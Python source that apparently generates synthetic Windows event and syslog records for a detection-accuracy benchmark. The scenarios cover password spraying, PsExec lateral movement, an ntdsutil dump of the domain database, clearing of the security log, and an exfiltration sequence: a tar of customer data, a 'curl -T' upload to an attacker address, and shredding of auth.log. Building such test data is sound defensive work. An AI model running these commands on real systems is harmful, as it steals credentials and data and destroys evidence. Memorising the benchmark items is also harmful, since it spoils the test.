"""Nights of a Windows domain: one against many, lateral movement, a log that was cleared, somebody who leaves."""

from benchmarks.accuracy.night.made import STAFF, Night, record, syslog
from benchmarks.accuracy.night.servers import ordinary_shells


def _windows(
    night: Night,
    minute: float,
    number: int,
    host: str,
    values: dict[str, object],
    story: str = "",
    channel: str = "Security",
) -> None:
    provider = {"Security": "Microsoft-Windows-Security-Auditing", "System": "Service Control Manager"}[
        channel
    ]
    provider = "Microsoft-Windows-Eventlog" if number == 1102 else provider
    record(
        night,
        minute,
        {
            "EventID": number,
            "Channel": channel,
            "Provider": provider,
            "Computer": f"{host}.corp.example",
            "EventData": values,
        },
        "TimeCreated",
        story,
    )


def _logon(
    night: Night,
    minute: float,
    number: int,
    user: str,
    address: str,
    story: str = "",
    host: str = "DC1",
    kind: int = 3,
) -> None:
    more: dict[str, object] = {"Status": "0xC000006D", "SubStatus": "0xC000006A"} if number == 4625 else {}
    _windows(
        night,
        minute,
        number,
        host,
        {"TargetUserName": user, "TargetDomainName": "CORP", "LogonType": kind, "IpAddress": address, **more},
        story,
    )


def _ordinary_logons(night: Night) -> None:
    night.ending, dice = "jsonl", night.dice
    for _ in range(300):
        _logon(
            night,
            dice.uniform(0, 479),
            4624,
            dice.choice(STAFF),
            f"10.0.1.{dice.randrange(10, 60)}",
            host=dice.choice(("DC1", "FS1", "WS4")),
        )
    for n in range(60):
        _windows(
            night,
            dice.uniform(0, 479),
            4634,
            "FS1",
            {"TargetUserName": dice.choice(STAFF), "TargetDomainName": "CORP", "LogonType": 3},
        )
        _logon(night, n * 8, 4624, "svc-backup", "10.0.0.20", host="FS1")
    for n in range(2):
        _logon(night, 300 + n / 5, 4625, "tom", "10.0.1.23", kind=2)
    _logon(night, 301, 4624, "tom", "10.0.1.23", kind=2)
    _windows(
        night,
        320,
        7045,
        "FS1",
        {
            "ServiceName": "BackupAgent",
            "ImagePath": "C:\\Program Files\\Backup\\agent.exe",
            "StartType": "auto start",
            "AccountName": "LocalSystem",
        },
        channel="System",
    )


def one_to_many(night: Night) -> None:
    """One address, many users, two tries each; then one that is let in."""
    _ordinary_logons(night)
    users = [f"{name}.{end}" for name in STAFF for end in ("berg", "kaya", "vogel", "lind")]
    for n, user in enumerate(users):
        for again in range(2):
            _logon(night, 150 + n * 0.8 + again * 0.1, 4625, user, "203.0.113.50", "spray")
    _logon(night, 180, 4624, "svea.kaya", "203.0.113.50", "spray")


def lateral(night: Night) -> None:
    """An account goes from host to host with remote services."""
    _ordinary_logons(night)
    minute, user = 250.0, "helpdesk2"
    for n, host in enumerate(("FS1", "WS4", "WS5", "DB2", "DC1")):
        _logon(night, minute + n * 3, 4624, user, "10.0.1.99", "lateral", host=host)
        _windows(
            night,
            minute + n * 3 + 0.1,
            4672,
            host,
            {
                "SubjectUserName": user,
                "SubjectDomainName": "CORP",
                "PrivilegeList": "SeDebugPrivilege SeTcbPrivilege",
            },
            "lateral",
        )
        _windows(
            night,
            minute + n * 3 + 0.2,
            7045,
            host,
            {
                "ServiceName": "PSEXESVC",
                "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
                "StartType": "demand start",
                "AccountName": "LocalSystem",
            },
            "lateral",
            "System",
        )
        _windows(
            night,
            minute + n * 3 + 0.4,
            4688,
            host,
            {
                "SubjectUserName": user,
                "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                "ParentProcessName": "C:\\Windows\\PSEXESVC.exe",
                "CommandLine": 'cmd.exe /c whoami /all & net group "Domain Admins" /domain',
            },
            "lateral",
        )
    _windows(
        night,
        minute + 17,
        4688,
        "DC1",
        {
            "SubjectUserName": user,
            "NewProcessName": "C:\\Windows\\System32\\ntdsutil.exe",
            "CommandLine": 'ntdsutil "ac i ntds" ifm "create full c:\\temp" q q',
        },
        "lateral",
    )


def cleared(night: Night) -> None:
    """Somebody adds himself to the administrators and clears the log."""
    _ordinary_logons(night)
    user = "svc-print"
    _logon(night, 260, 4624, user, "10.0.1.88", "cleared", host="FS1", kind=10)
    _windows(
        night,
        261,
        4732,
        "FS1",
        {
            "SubjectUserName": user,
            "MemberName": "CN=guest7",
            "TargetUserName": "Administrators",
            "TargetSid": "S-1-5-32-544",
        },
        "cleared",
    )
    _windows(
        night,
        262,
        4719,
        "FS1",
        {
            "SubjectUserName": user,
            "CategoryId": "Logon/Logoff",
            "AuditPolicyChanges": "Success removed, Failure removed",
        },
        "cleared",
    )
    _windows(night, 264, 1102, "FS1", {"SubjectUserName": user, "SubjectDomainName": "CORP"}, "cleared")


def leaving(night: Night) -> None:
    """A guessed account packs a folder and sends it away; beside it the backup sends more, to where it always does."""
    ordinary_shells(night, ("db1", "web1"))
    bad = "203.0.113.66"
    for n in range(8):
        syslog(
            night,
            200 + n / 5,
            "db1",
            f"sshd[{9300 + n}]: Failed password for jonas from {bad} port {34000 + n} ssh2",
            "leaving",
        )
    syslog(
        night, 203, "db1", f"sshd[9399]: Accepted password for jonas from {bad} port 34100 ssh2", "leaving"
    )
    for n, command in enumerate(
        (
            "/usr/bin/tar czf /tmp/.c.tgz /srv/customers",
            f"/usr/bin/curl -T /tmp/.c.tgz http://{bad}/in",
            "/usr/bin/shred -u /var/log/auth.log",
        )
    ):
        syslog(
            night,
            205 + n * 2,
            "db1",
            f"sudo:    jonas : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND={command}",
            "leaving",
        )
    for n in range(6):
        syslog(
            night,
            30 + n * 60,
            "db1",
            "sudo:   backup : PWD=/ ; USER=root ; COMMAND=/usr/bin/rsync -a /srv/customers 10.0.0.20:/backup",
        )
